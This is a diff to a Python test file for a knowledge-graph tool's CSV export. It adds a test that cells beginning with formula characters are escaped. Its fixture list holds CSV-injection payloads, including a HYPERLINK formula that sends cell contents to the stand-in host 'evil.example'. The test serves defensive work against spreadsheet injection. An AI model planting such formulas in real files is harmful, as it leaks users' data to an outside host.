@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import csv
 import functools
+import io
 import json
 import subprocess
 import time
@@ -24,7 +25,7 @@ import rdflib
 from rdflib.namespace import RDFS, SKOS
 
 from kg.db import Database
-from kg.export import Scope, export_graph
+from kg.export import ExportFilter, export_graph
 from kg.export import cypher as cypher_format
 from tests.graph_seed import HOSTILE, bulk_graph, fake_ollama, ingest_story, rows, use_server
 
@@ -192,6 +193,41 @@ def test_csv_needs_a_folder_and_a_missing_folder_writes_nothing(kg, db, tmp_path
     assert result.exit_code == 2 and "give --format" in result.stderr
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
+            "\tTabbed", "\rReturned"]
+
+
+def test_csv_escapes_formulas_when_asked_and_spreadsheet_csv_always(kg, db, tmp_path) -> None:
+    bulk_graph(db, len(FORMULAS) + 1, 0, labels=[*FORMULAS, "plain - label"])
+
+    def labels(folder: Path) -> dict[str, str]:
+        with (folder / "concepts.csv").open(encoding="utf-8", newline="") as f:
+            found = list(csv.DictReader(f))
+        return {r["conceptId:ID(Concept)"]: r["label"] for r in found}
+
+    stored = {str(cid): label for cid, label in rows(db, "SELECT id, label FROM concepts")}
+    # The neo4j-admin layout keeps every value as it is by default (the importer would keep
+    # a guard as part of the label) ...
+    assert kg("export", "--format", "csv", "-o", str(tmp_path / "raw")).exit_code == 0
+    assert labels(tmp_path / "raw") == stored
+    # ... and guards every cell a spreadsheet would run when asked.
+    result = kg("export", "--format", "csv", "--escape-formulas", "-o", str(tmp_path / "safe"))
+    assert result.exit_code == 0, result.stderr
+    safe = labels(tmp_path / "safe")
+    assert safe == {cid: ("'" + label if label in FORMULAS else label)
+                    for cid, label in stored.items()}
+    with (tmp_path / "safe" / "concepts.csv").open(encoding="utf-8", newline="") as f:
+        aliases = [r["aliases:string[]"] for r in csv.DictReader(f)]
+    assert all(not a.startswith(("=", "+", "-", "@", "\t", "\r")) for a in aliases)
+    refused = kg("export", "--format", "jsonl", "--escape-formulas")
+    assert refused.exit_code == 2 and "--escape-formulas is for --format csv" in refused.stderr
+
+    # The CLI's --csv listings are for spreadsheets: always guarded.
+    listed = list(csv.DictReader(io.StringIO(kg("concepts", "list", "--csv").stdout)))
+    shown = {r["label"] for r in listed}
+    assert shown == {"'" + f for f in FORMULAS} | {"plain - label"}
+
+
 # -- Cypher -----------------------------------------------------------------------------------
 
 def _statements(script: str) -> list[str]:
@@ -327,7 +363,7 @@ def test_export_memory_does_not_grow_with_the_graph(db, tmp_path) -> None:
         bulk_graph(db, size, size * 3)
         tracemalloc.start()
         with (tmp_path / f"g{size}.graphml").open("w", encoding="utf-8") as out:
-            export_graph(db, "graphml", stream=out, scope=Scope())
+            export_graph(db, "graphml", stream=out, scope=ExportFilter())
         peaks.append(tracemalloc.get_traced_memory()[1])
         tracemalloc.stop()
     # the second export covers 7,500 concepts and 22,500 relationships
